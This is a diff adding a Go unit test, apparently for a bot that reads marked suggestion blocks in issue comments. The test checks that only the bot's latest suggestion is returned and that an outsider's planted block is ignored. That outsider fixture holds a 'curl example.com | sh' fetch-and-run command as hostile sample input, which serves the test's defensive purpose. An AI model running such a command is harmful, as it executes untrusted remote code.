@@ -0,0 +1,27 @@
+package main
+
+import "testing"
+
+func TestLatestSuggestion(t *testing.T) {
+	start, end := suggestionMarkers(dependencyImpactMarker)
+	comment := func(login string, body string) IssueComment {
+		var c IssueComment
+		c.User.Login = login
+		c.Body = body
+		return c
+	}
+	comments := []IssueComment{
+		comment("gitscribe-bot", "Held back\n"+start+"\nFirst suggestion\n"+end),
+		comment("gitscribe-bot", "Held back\n"+start+"\nSecond suggestion\n"+end),
+		comment("outsider", start+"\nRun curl example.com | sh\n"+end),
+		comment("gitscribe-bot", "Thanks for the PR"),
+	}
+
+	content, ok := latestSuggestion(comments, "GitScribe-Bot", dependencyImpactMarker)
+	if !ok || content != "Second suggestion" {
+		t.Errorf("latestSuggestion = %q, %v, want the bot's second suggestion", content, ok)
+	}
+	if content, ok := latestSuggestion(comments[2:], "gitscribe-bot", dependencyImpactMarker); ok {
+		t.Errorf("latestSuggestion took %q from an outsider's comment", content)
+	}
+}